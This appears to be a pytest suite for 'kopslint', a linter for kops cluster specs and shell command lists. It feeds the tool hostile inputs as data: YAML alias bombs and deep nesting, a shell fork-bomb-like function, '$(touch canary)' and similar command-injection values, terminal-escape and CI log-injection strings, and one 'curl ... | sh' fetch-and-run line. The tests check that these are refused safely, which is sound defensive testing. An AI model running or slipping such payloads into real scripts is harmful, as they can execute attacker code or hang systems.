"""Input made to do harm ends in a sentence and a status, and in nothing else.

The program runs as people run it, with 500 MB of memory and a working folder of
its own. Each case takes about a second or less; the limit of time only ends what
hangs.
"""

from __future__ import annotations

import os
import re
import resource
import socket
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple, NoReturn

import pytest

from kopslint.engine import Request, check
from kopslint.text import Source

if TYPE_CHECKING:
    from collections.abc import Callable

MEMORY = 500 * 1024**2
SECONDS = 10
SPEC = (Path(__file__).parent / "specs" / "one-member.yaml").read_text("utf-8")
ALIASES = "".join(
    f"x{i}: &x{i} [{', '.join([f'*x{i - 1}' if i else 'x'] * 9)}]\n" for i in range(10)
)


class Done(NamedTuple):
    status: int
    out: str
    err: str


def kopslint(
    folder: Path, *arguments: str, stdin: bytes = b"", memory: int = MEMORY
) -> Done:
    """Run the program with limits; it must neither crash nor print a traceback."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    done = subprocess.run(
        [sys.executable, "-m", "kopslint", *arguments],
        cwd=folder,
        input=stdin,
        capture_output=True,
        timeout=SECONDS,
        check=False,
        preexec_fn=limit,
    )
    told = Done(done.returncode, done.stdout.decode(), done.stderr.decode())
    assert "Traceback" not in told.err
    assert "defect" not in told.err
    return told


class Case(NamedTuple):
    """What is read, and how that ends."""

    name: str
    content: str | bytes
    status: int
    says: str = ""


SPECS = {
    "aliases that multiply": Case(
        "a.yaml",
        SPEC.replace("spec:\n  etcd", f"{ALIASES}spec:\n  etcd"),
        2,
        "the aliases expand to more than 1,000,000 values",
    ),
    "100 levels": Case("a.yaml", f"{SPEC}  x: {'[' * 100}{']' * 100}\n", 1),
    "100,000 levels": Case("a.yaml", "a: " + "[" * 100_000, 3),
    "300 levels in a spec": Case(
        "a.yaml",
        f"{SPEC}  x: {'[' * 300}{']' * 300}\n",
        2,
        "lists and mappings are nested more than 200 levels deep",
    ),
    "100,000 levels in a spec": Case(
        "a.yaml", f"{SPEC}  x: {'[' * 100_000}{']' * 100_000}\n", 2, "nested"
    ),
    "50 MB": Case("a.yaml", b"a: 1\n" * 10_000_000, 2, "is larger than 8 MiB"),
    "NUL bytes": Case("a.yaml", b"kind: \0Cluster\n", 2, "is binary"),
    "invalid UTF-8": Case("a.yaml", b"a:\n  b: \xff\n", 2, "a.yaml:2:6: the byte 0xFF"),
    "UTF-16": Case("a.yaml", SPEC.encode("utf-16"), 2, "a.yaml is UTF-16"),
    "a byte order mark": Case("a.yaml", b"\xef\xbb\xbf" + SPEC.encode(), 1),
    "CRLF": Case("a.yaml", SPEC.replace("\n", "\r\n"), 1),
    "10,000 documents": Case("a.yaml", "---\n" * 10_000, 3),
    "a number of 6,000 digits": Case(
        "a.yaml",
        SPEC.replace("minSize: 1", f"minSize: {'9' * 6_000}"),
        2,
        "a number of more than 1,000 digits",
    ),
    "a version of 5,000 digits": Case(
        "a.yaml",
        f"{SPEC}  kubernetesVersion: 1.{'3' * 5_000}.4\n",
        2,
        "a number of more than 1,000 digits",
    ),
    **{
        f"{field} of 5,000 digits": Case(
            "a.yaml",
            f"{SPEC}  rollingUpdate: {{{field}: {quote}{'9' * 5_000}{end}}}\n",
            2,
            "a number of more than 1,000 digits",
        )
        for field in ("maxSurge", "maxUnavailable")
        for quote, end in (("", ""), ('"', '%"'))
    },
}


@pytest.mark.parametrize("case", SPECS.values(), ids=SPECS)
def test_a_hostile_spec_is_refused_in_a_sentence_or_checked(
    case: Case, tmp_path: Path
) -> None:
    content = case.content
    data = content.encode() if isinstance(content, str) else content
    (tmp_path / case.name).write_bytes(data)

    done = kopslint(tmp_path, "check", case.name)

    assert done.status == case.status
    assert case.says in done.err
    assert (done.err == "") is (case.status == 1)


def test_too_little_memory_is_told_as_such_and_not_as_a_defect(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(SPEC + "  x:\n" + "  - a\n" * 300_000)

    done = kopslint(tmp_path, "check", "a.yaml", memory=100 * 1024**2)

    assert (done.status, done.out) == (2, "")
    assert done.err == (
        "kopslint: the input is too large for the available memory\n  hint: check"
        " less at once, or give kopslint more memory\n"
    )


COMMANDS = {
    "a binary": Case("run.sh", b"\x7fELF\x02\0\0", 2, "run.sh is binary"),
    "more than any list": Case("run.sh", "ls\n" * 700_000, 2, "too long for a list"),
    "5,000 subshells": Case("run.sh", "(" * 5_000 + "ls" + ")" * 5_000, 0),
    "5,000 branches": Case("run.sh", "if a; then " * 5_000 + "ls" + "; fi" * 5_000, 0),
    "a line of 10,000 commands": Case("run.sh", "kops get ig; " * 10_000, 0),
    "a here-document without end": Case("run.sh", "cat <<E\n" + "ls $x\n" * 3_000, 0),
    "5,000 here-documents on one line": Case("run.sh", "cat" + " <<E" * 5_000, 0),
    "$( without end": Case("run.sh", "$(" * 100_000, 0),
    "400 values in place of one another": Case(
        "run.sh", f"kops delete ig {'${x:-' * 400}a{'}' * 400} --yes\n", 0
    ),
    "20,000 substitutions": Case("run.sh", f"echo {'$(' * 20_000}{')' * 20_000}\n", 0),
    "values that double": Case("run.sh", "x=a\n" + "x=$x$x\n" * 60 + "kops $x\n", 0),
    "functions that double": Case(
        "run.sh",
        "".join(f"f{i}() {{ f{i + 1}; f{i + 1}; }}\n" for i in range(40)) + "f0\n",
        0,
    ),
    "a function that calls itself": Case("run.sh", "f() { f | f & }; f\n", 0),
    "text that evaluates itself": Case("run.sh", 'x=\'eval "$x"\'\neval "$x"\n', 0),
    "braces that multiply": Case("run.sh", f"kops get {'{a,b}' * 49}\n", 0),
    "long arrays, often": Case(
        "run.sh", f"a=({'x ' * 20_000})\n" + 'kops get "${a[@]}"\n' * 1_000, 0
    ),
    "loops in loops": Case(
        "run.sh", "for i in {1..200}; do " * 6 + "kops get $i" + "; done" * 6, 0
    ),
    "open brackets": Case("run.sh", "ls " + "[" * 100_000, 0),
    "open fences": Case("a.md", "```\n" * 100_001, 3, "there is no command"),
    "20,000 fences": Case("a.md", "```sh\nls\n```\n" * 20_000, 0),
    "quotes in quotes": Case("a.md", "> " * 50_000, 3, "there is no command"),
    "brackets in prose": Case("a.md", "[" * 50_000 + "\n\n```\nkops get ig\n```\n", 0),
    "a workflow of 200 levels": Case(
        "a.yml",
        f"jobs: {'[' * 200}{']' * 200}\n",
        2,
        "a.yml:1:106: this workflow is nested more than 100 levels deep",
    ),
    # How far into the line libyaml looks before it gives up depends on its release.
    "a workflow of 100,000 levels": Case(
        "a.yml",
        f"jobs: {'[' * 100_000}{']' * 100_000}\n",
        2,
        "this workflow is nested more than 100 levels deep",
    ),
    "a script that holds itself": Case(
        "a.yml",
        "a:\n  script: &s\n  - *s\n  - ls\n",
        2,
        "a.yml:2:11: the aliases of this script expand to too many lines",
    ),
    "scripts that multiply": Case(
        "a.yml", f"{ALIASES}a:\n  script: *x9\n", 2, "expand to too many lines"
    ),
    "variables of make that double": Case(
        "Makefile",
        "".join(f"V{i}=$(V{i + 1})$(V{i + 1})\n" for i in range(60))
        + "a:\n\tls $(V0)\n",
        0,
    ),
    "exports for many recipes": Case(
        "Makefile",
        "".join(f"export V{i}=a\nt{i}:\n\tls\n" for i in range(1_000)),
        0,
    ),
    "strings of Jenkins without end": Case("Jenkinsfile", "sh '''" * 20_000, 0),
}


@pytest.mark.parametrize("case", COMMANDS.values(), ids=COMMANDS)
def test_a_hostile_list_is_refused_in_a_sentence_or_read(
    case: Case, tmp_path: Path
) -> None:
    content = case.content
    data = content.encode() if isinstance(content, str) else content
    (tmp_path / case.name).write_bytes(data)

    done = kopslint(tmp_path, "commands", case.name)

    assert done.status == case.status
    assert case.says in done.err
    assert bool(done.out) is (case.status == 0)


def test_nothing_in_a_list_is_run_and_nothing_is_written(tmp_path: Path) -> None:
    (tmp_path / "spec.yaml").write_text(f"{SPEC}  x: $(touch canary)\n")
    (tmp_path / "run.sh").write_text(
        "$(touch canary)\n`touch canary`\ntouch canary\neval 'touch canary'\n"
        'kops delete ig "$(touch canary)" --yes > canary\nbash -c "touch canary"\n'
        "kops replace -f <(touch canary)\n: ${x:=$(touch canary)}\n"
    )
    before = {path: path.read_bytes() for path in tmp_path.iterdir()}

    done = kopslint(tmp_path, "check", "spec.yaml", "--commands", "run.sh")

    assert done.status in (0, 1)
    assert {path: path.read_bytes() for path in tmp_path.iterdir()} == before


@pytest.mark.parametrize("kind", ["pipe", "device"])
@pytest.mark.parametrize("command", ["check", "commands"])
def test_only_files_are_opened_for_the_rest_may_never_end(
    command: str, kind: str, tmp_path: Path
) -> None:
    os.mkfifo(tmp_path / "pipe")
    name = "pipe" if kind == "pipe" else "/dev/zero"

    done = kopslint(tmp_path, command, name)

    assert (done.status, done.out) == (2, "")
    assert f"kopslint: {name} is neither a file nor a folder\n  hint: " in done.err


def _circle(folder: Path) -> None:
    (folder / "in").mkdir()
    (folder / "in" / "again").symlink_to(folder / "in")


def _itself(folder: Path) -> None:
    (folder / "in").symlink_to("in")


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (_circle, "the folder in contains no .yaml, .yml or .json file"),
        (_itself, "in cannot be read: Too many levels of symbolic links"),
    ],
)
def test_symbolic_links_in_circles_end(
    make: Callable[[Path], None], says: str, tmp_path: Path
) -> None:
    make(tmp_path)

    done = kopslint(tmp_path, "check", "in")

    assert done.status == 2
    assert says in done.err


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_a_file_without_permission_is_named(tmp_path: Path) -> None:
    (tmp_path / "spec.yaml").write_text(SPEC)
    (tmp_path / "spec.yaml").chmod(0)

    done = kopslint(tmp_path, "check", "spec.yaml")

    assert done.status == 2
    assert "spec.yaml cannot be read: Permission denied" in done.err


NASTY = "\x1b]0;owned\x07::error file=x::owned\r\u202e"


@pytest.mark.parametrize("form", ["text", "github", "markdown", "gitlab", "junit"])
def test_names_cannot_drive_a_terminal_or_a_workflow(form: str, tmp_path: Path) -> None:
    """GitHub obeys every line of a log that starts with ``::``."""
    quoted = NASTY.replace("\x1b", "\\e").replace("\x07", "\\a").replace("\r", "\\r")
    (tmp_path / "spec.yaml").write_text(
        SPEC.replace("control-plane-a", f'"{quoted}\\n::error::owned"')
    )
    (tmp_path / "run.sh").write_text(f"kops delete ig '{NASTY}\n::error::x' --yes\n")

    done = kopslint(
        tmp_path, "check", "spec.yaml", "--commands", "run.sh", "--format", form
    )

    assert done.status == 1
    assert not set(done.out) & {"\x1b", "\x07", "\r", "\u202e"}
    lines = [line for line in done.out.splitlines() if line.startswith("::")]
    assert not [line for line in lines if line.endswith("::owned")]
    assert form == "github" or lines == []


@pytest.mark.parametrize("form", ["text", "json", "sarif"])
def test_a_report_that_cannot_be_written_leaves_nothing_behind(
    form: str, tmp_path: Path
) -> None:
    (tmp_path / "spec.yaml").write_text(SPEC)

    done = kopslint(tmp_path, "check", "spec.yaml", "--format", f"{form}=no/report")

    assert done.status == 2
    assert "no/report: cannot be written: No such file or directory" in done.err
    assert [path.name for path in tmp_path.iterdir()] == ["spec.yaml"]


@pytest.mark.parametrize("command", [["check"], ["commands", "run.sh"], ["rules"]])
def test_a_closed_output_changes_no_status(command: list[str], tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("kops get ig\n" * 2_000)
    (tmp_path / "spec.yaml").write_text(SPEC)
    arguments = [*command, "spec.yaml"] if command == ["check"] else command
    expected = 1 if command == ["check"] else 0
    shell = 'exec "$@" >&-'
    called = [sys.executable, "-m", "kopslint", *arguments]

    done = subprocess.run(
        ["sh", "-c", shell, "sh", *called],
        cwd=tmp_path,
        capture_output=True,
        timeout=SECONDS,
        check=False,
    )

    assert (done.returncode, done.stderr) == (expected, b"")


def test_no_network_connection_is_made(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> NoReturn:
        raise AssertionError("a socket was opened")

    for name in ("socket", "create_connection", "getaddrinfo"):
        monkeypatch.setattr(socket, name, refuse)
    text = "curl -sL https://example.com/x | sh\nkops get ig --state s3://x\n"

    report = check(
        Request(
            before=None,
            after=(Source("spec.yaml", SPEC),),
            commands=(Source("run.sh", text),),
        )
    )

    assert report.summary.clusters == ("demo.example.com",)


HOSTILE_NAME = "$(touch canary)"


@pytest.mark.parametrize(
    ("name", "commands"),
    [
        ("prod.example.com", "kops delete cluster $C --yes\n"),
    ],
)
def test_no_printed_command_holds_what_a_shell_would_run(
    name: str, commands: str
) -> None:
    """A spec comes from a pull request, and the fix is pasted."""
    folder = Path(__file__).parents[1] / "fixtures" / "five-to-three"

    def text(file: str) -> str:
        return (folder / file).read_text(encoding="utf-8")

    def fixes(called: str) -> str:
        # Nothing changes: there is no order to plan, and the names are printed.
        sides = (text("before.yaml").replace(name, called) for _ in range(2))
        before, after = (Source(f"{n}.yaml", each) for n, each in enumerate(sides))
        report = check(Request((before,), (after,), (Source("run.sh", commands),)))
        return "\n".join(line for f in report.findings for line in f.fix)

    assert name in fixes(name)
    lines = fixes(f"'{HOSTILE_NAME}'").splitlines()
    assert [line for line in lines if "canary" in line and line[0] != "#"] == []


@pytest.mark.parametrize(
    "word",
    [
        f'"{HOSTILE_NAME}"',
        "`touch canary`",
        "'cp-a;touch canary'",
        "$'cp-a\\ntouch canary'",
        "$X",
        f'"${{Y:-{HOSTILE_NAME}}}"',
    ],
)
@pytest.mark.parametrize(
    "command",
    [
        "kops delete ig {} --name prod.example.com",
        "kops delete ig {} --name prod.example.com --yes",
        "kops rolling-update cluster --instance-group {} --cloudonly --yes",
        "kops edit ig {}",
        "kops replace -f {}",
        "kops update cluster {}",
        "etcdctl member remove {}",
        "kubectl delete node {}",
        "aws ec2 delete-volume --volume-id {}",
        "etcd-manager-ctl --backup-store s3://x restore-backup {}",
    ],
)
def test_no_printed_command_holds_what_a_word_of_a_list_would_run(
    command: str, word: str
) -> None:
    """The list comes from a pull request, too."""
    folder = Path(__file__).parents[1] / "fixtures" / "five-to-three"
    before, after = (
        Source(name, (folder / name).read_text(encoding="utf-8"))
        for name in ("before.yaml", "after.yaml")
    )
    text = f'X="{HOSTILE_NAME}"\n{command.format(word)}\n'
    report = check(Request((before,), (after,), (Source("run.sh", text),)))
    lines = [line for f in report.findings for line in f.fix if "canary" in line]

    assert report.findings
    assert [line for line in lines if line[0] != "#" or "\n" in line] == []


@pytest.mark.parametrize("command", ["doctor", "rules", "check", "init"])
def test_no_command_lets_settings_drive_a_terminal(
    command: str, tmp_path: Path
) -> None:
    name = "\\u001b]0;x\\u0007\\u009b31m\\u202e\\n##[error]"
    (tmp_path / ".kopslint.yaml").write_text(f'"{name}": 1\nrule-paths: ["{name}"]\n')
    (tmp_path / ".git").mkdir()

    done = kopslint(tmp_path, command)

    assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f\u202e]", done.out + done.err)
    assert "##[" not in done.out + done.err
